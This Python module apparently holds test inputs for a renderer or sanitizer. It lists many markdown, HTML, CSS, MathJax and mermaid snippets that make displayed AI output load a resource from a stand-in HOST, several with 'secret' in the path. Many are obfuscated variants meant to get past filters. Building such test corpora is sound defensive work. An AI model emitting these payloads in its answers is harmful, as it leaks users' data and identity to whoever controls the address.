"""Model text that tries to load an address as soon as it is drawn.

Whoever owns the address learns who read the answer, and whatever the model wrote into it.
"""

_IMAGES = r"""
![x](https://HOST/a.png)
![](https://HOST/a.png)
![x](//HOST/a.png)
![x](http://HOST/a.png)
![x](HTTPS://HOST/a.png)
![x](https&colon;//HOST/a.png)
![x](ht&#9;tps://HOST/a.png)
![x](https:\\\\HOST/a.png)
![x](https:/\/HOST/a.png)
![x](<https://HOST/a b.png>)
![x](https://HOST/a.png "title")
![x](https://HOST/a.png 'title' )
![x](https://user@HOST/a.png)
![x](https://HOST:8443/a.png?q=secret#f)
![x][https://HOST/a.png]
![![x](https://HOST/a.png)](https://HOST/b.png)
[![x](https://HOST/a.png)](https://HOST/)
[![x](https://HOST/a.png)](javascript:RUN)
![`x`](https://HOST/a.png)
![$\href{javascript:RUN}{x}$](https://HOST/a.png)
![$`$](https://HOST/$x$.png)
![x](https://HOST/$x$.png)
![\](https://HOST/a.png)
!\[x](https://HOST/a.png) ![x](https://HOST/b.png)
&#33;[x](https://HOST/a.png) !&#91;x](https://HOST/b.png) ![x](https://HOST/c.png)
*![x](https://HOST/a.png)* ~~![x](https://HOST/b.png)~~
`![x](https://HOST/a.png) ` ` ![x](https://HOST/b.png)
$![x](https://HOST/a.png)$
$$ ![x](https://HOST/a.png)
x ! [x](https://HOST/a.png)![x](https://HOST/b.png)
![x](https://HOST/a.png =100x100)
![x](secret-NUMBER.png)
![x](/files/secret-NUMBER.png)
![x](../secret-NUMBER.png "title")
![x](https://HOST/a.png){width=1}
![[https://HOST/a.png]] ![x](https://HOST/b.png)
""".strip().splitlines()

_HTML = r"""
<img src="https://HOST/a.png">
<img src=//HOST/a.png>
<img src=/api/contents/secret-NUMBER.png>
<img srcset="https://HOST/a.png 1x">
<img src=data:, srcset=https://HOST/a.png>
<img src=data: style="background:url(https://HOST/a.png)">
<picture><source srcset=https://HOST/a.png><img src=data:,></picture>
<video poster="https://HOST/a.png"></video>
<video autoplay src="https://HOST/a.mp4"></video>
<video><source src="https://HOST/a.mp4"></video>
<video autoplay><track default src="https://HOST/a.vtt"></video>
<audio src="https://HOST/a.mp3" autoplay></audio>
<iframe src="https://HOST/a"></iframe>
<iframe srcdoc="<img src=https://HOST/a.png>"></iframe>
<object data="https://HOST/a"></object>
<embed src="https://HOST/a">
<link rel=stylesheet href=https://HOST/a.css>
<link rel=preload as=image href=https://HOST/a.png>
<link rel=modulepreload href=https://HOST/a.js>
<link rel=prefetch href=https://HOST/a>
<link rel=icon href=https://HOST/a.ico>
<style>@import url(https://HOST/a.css);</style>
<style>@import 'https://HOST/a.css'</style>
<style>.jp-Notebook{background:url(https://HOST/a.png)}</style>
<style>@font-face{font-family:q;src:url(https://HOST/a.woff)}p,body{font-family:q}</style>
<div style="background:url(https://HOST/a.png)">x</div>
<div style="background-image:\75rl(https://HOST/a.png)">x</div>
<div style="list-style:url(https://HOST/a.png) inside;display:list-item">x</div>
<p style="border-image:url(https://HOST/a.png) 1 / 10px">x</p>
<p style="content:url(https://HOST/a.png)">x</p>
<p style="cursor:url(https://HOST/a.cur),auto">x</p>
<body background="https://HOST/a.png">x
<table background="https://HOST/a.png"><tr><td>x
<td background="https://HOST/a.png">x
<input type=image src="https://HOST/a.png">
<svg><image href="https://HOST/a.png" width=9 height=9 /></svg>
<svg><image xlink:href="https://HOST/a.png" width=9 height=9 /></svg>
<svg><use href="https://HOST/a.svg#x"/></svg>
<svg><feImage href="https://HOST/a.png"/></svg>
<svg><rect style="fill:url(https://HOST/a.svg#p)" width=9 height=9 /></svg>
<svg><style>@import url(https://HOST/a.css)</style></svg>
<math><mglyph src="https://HOST/a.png"/></math>
<math><mtext><img src="https://HOST/a.png"></mtext></math>
<script src="https://HOST/a.js"></script>
<meta http-equiv="Content-Security-Policy" content="report-uri https://HOST/a"><img src=https://HOST/b.png>
<details><summary>x</summary><img src=https://HOST/a.png></details>
</details><img src="https://HOST/a.png">
<noscript><img src="https://HOST/a.png"></noscript><img src="https://HOST/b.png">
<template><img src="https://HOST/a.png"></template><img src="https://HOST/b.png">
<dialog open><img src="https://HOST/a.png"></dialog>
<frameset><frame src="https://HOST/a"></frameset><iframe src="https://HOST/b">
<applet code=x codebase=https://HOST/a></applet><img src="https://HOST/b.png">
<bgsound src=https://HOST/a><img src="https://HOST/b.png">
&lt;img src=https://HOST/a.png&gt;
""".strip().splitlines()

_MATH = r"""
$\mmlToken{mglyph}[src=https://HOST/a.png]{}$
$$\mmlToken{mglyph}[src=https://HOST/a.png,width=9,height=9]{x}$$
\\(\mmlToken{mglyph}[src=https://HOST/a.png]{}\\)
$\mmlToken {mglyph} [src="https://HOST/a.png"] {}$
$\style{background:url(https://HOST/a.png)}{x}$
$\bbox[background:url(https://HOST/a.png)]{x}$
$\bbox[border:1px;background:url(https://HOST/a.png)]{x}$
$\includegraphics{https://HOST/a.png}$
$\require{html}\style{background:url(https://HOST/a.png)}{x}$
$\require{https://HOST/a.js}$
$\unicode[url(https://HOST/a.woff)]{x41}$
$\enclose{box}[mathbackground="url(https://HOST/a.png)"]{x}$
$\color{url(https://HOST/a.png)}x$
$\color[HTML]{url(https://HOST/a.png)}x$
$\definecolor{q}{RGB}{url(https://HOST/a.png)}\color{q}x$
$\fcolorbox{url(https://HOST/a.png)}{red}{x}$
$\htmlStyle{background:url(https://HOST/a.png)}{x}$
$\def\m{\mmlToken{mglyph}[src=https://HOST/a.png]{}}\m$
$\let\m\mmlToken \m{mglyph}[src=https://HOST/a.png]{}$
$\newcommand{\m}{\mmlToken}\m{mglyph}[src=https://HOST/a.png]{}$
$\csname mmlToken\endcsname{mglyph}[src=https://HOST/a.png]{}$
$\begin{align}\mmlToken{mglyph}[src=https://HOST/a.png]{}\end{align}$
&#36;\mmlToken{mglyph}[src=https://HOST/a.png]{}&#36;
\$\mmlToken{mglyph}[src=https://HOST/a.png]{}\$
<span>$</span>\mmlToken{mglyph}[src=https://HOST/a.png]{}<span>$</span>
`$` \mmlToken{mglyph}[src=https://HOST/a.png]{} `$` $\mmlToken{mglyph}[src=https://HOST/b.png]{}$
""".strip().splitlines()

_BLOCKS = [
    "![x][r]\n\n[r]: https://HOST/a.png",
    "![r]\n\n[r]: <https://HOST/a.png> 'title'",
    "![x][]\n\n[x]: //HOST/a.png",
    '[r]: https://HOST/a.png "$\'onerror=RUN$"\n\n![x][r]',
    "[r]:\nhttps://HOST/a.png\n\n![a\nb][r]",
    "> [r]: https://HOST/a.png\n\n- ![x][r]",
    "| a |\n|---|\n| ![x](https://HOST/a.png) |",
    "# ![x](https://HOST/a.png)",
    "- a\n  - ![x](https://HOST/a.png)",
    "> ![x](https://HOST/a.png)",
    "![x](\nhttps://HOST/a.png\n)",
    "![x\ny](https://HOST/a.png\n'title')",
    "```\n```\n![x](https://HOST/a.png)",
    "`\n\n![x](https://HOST/a.png)\n\n`",
    "$$\n\n![x](https://HOST/a.png)\n\n$$",
    "$$\n\\mmlToken{mglyph}[src=https://HOST/a.png]{}\n$$",
    "\\begin{align}\n\\mmlToken{mglyph}[src=https://HOST/a.png]{}\n\\end{align}",
    "```mermaid\ngraph TD; A[<img src=https://HOST/a.png>]\n```",
    "```mermaid\nflowchart LR\n A@{ img: 'https://HOST/a.png', label: 'x' }\n```",
    "```mermaid\n%%{init: {'themeCSS': '* {background: url(https://HOST/a.png)}'}}%%\n"
    "graph TD; A\n```",
    "[^1]: ![x](https://HOST/a.png)\n\nx[^1]",
    "a\n: ![x](https://HOST/a.png)",
    "~~~ ![x](https://HOST/a.png)\n~~~\n![x](https://HOST/b.png)",
    "\x00![x](https://HOST/a.png)\x00",
    "!\u200b[x](https://HOST/a.png) !\u2060[y](https://HOST/b.png) ![z](https://HOST/c.png)",
    "<img\nsrc=https://HOST/a.png\n>",
]

_DIAGRAM = "flowchart TD\nA@{ img: 'https://HOST/a.png', label: 'x', pos: 't', w: 60, h: 60 }"
# Where a fence begins and what its name is, parsers disagree: after `trim()` they do not.
_OPENERS = [
    *(f"> ```{space}mermaid" for space in "\u00a0\ufeff\u2003\u2028\u2029\u3000\u1680\u202f"),
    "> ```",
    "> ```\t \t mermaid \t",
    "> ```mermaid\u00a0",
    "> ~~~\u00a0mermaid",
    "> ~~~~~ \ufeff mermaid",
    ">```mermaid",
    "> > ```\u00a0mermaid",
    "> - > ```\u2003mermaid",
    ">    ```\u00a0mermaid",
    ">\u00a0```mermaid",
    "> ```\\mermaid",
    "> ```&nbsp;mermaid",
    "> ```&#109;ermaid",
    "> ```\u200bmermaid",
    "> ```\x0bmermaid",
    "> ```\x1b[0mmermaid",
    "> ```\ufdd3mermaid",
    "> ```mermaid`",
    "> ~~~ ```mermaid",
    "> ~~~`~~~mermaid",
    "> ````\u00a0mermaid",
    "> ```{mermaid}",
    "> :::\u00a0mermaid",
    "> title\n> ===\n> ```\u00a0mermaid",
    "> | a |\n> |---|\n> ```\u00a0mermaid",
    "> [r]: x\n> ```\u00a0mermaid",
    "> $x\n> ```\u00a0mermaid",
]
_FENCES = [
    f"{opener}\n" + "\n".join(f"> {line}" for line in f"{_DIAGRAM}\n{closer}".split("\n"))
    for opener in _OPENERS
    for closer in ["~~~~~" if "~~~" in opener else "````"]
]
_LISTED = [
    f"- a\n\n  ```\u00a0mermaid\n  {_DIAGRAM}\n  ```".replace("\nA@", "\n  A@"),
    f"- ```\u2003mermaid\n  {_DIAGRAM}\n  ```".replace("\nA@", "\n  A@"),
    f"1. ~~~\ufeffmermaid\n   {_DIAGRAM}\n   ~~~".replace("\nA@", "\n   A@"),
    f"- - ```\u00a0mermaid\n    {_DIAGRAM}\n    ```".replace("\nA@", "\n    A@"),
    f"-\t```\u00a0mermaid\n\t{_DIAGRAM}\n\t```".replace("\nA@", "\n\tA@"),
    f"- [ ] ```\u00a0mermaid\n  {_DIAGRAM}\n  ```".replace("\nA@", "\n  A@"),
    f"a\n  ```\u00a0mermaid\n{_DIAGRAM}\n```",
    f"```\u00a0mermaid\n{_DIAGRAM}\n```",
    f"   ~~~\u3000mermaid\n{_DIAGRAM}\n~~~",
    f"```Mermaid\n{_DIAGRAM}\n```",
    f"[^1]:\n    ```\u00a0mermaid\n    {_DIAGRAM}\n    ```",
]

LOADS = [*_IMAGES, *_HTML, *_MATH, *_BLOCKS, *_FENCES, *_LISTED]
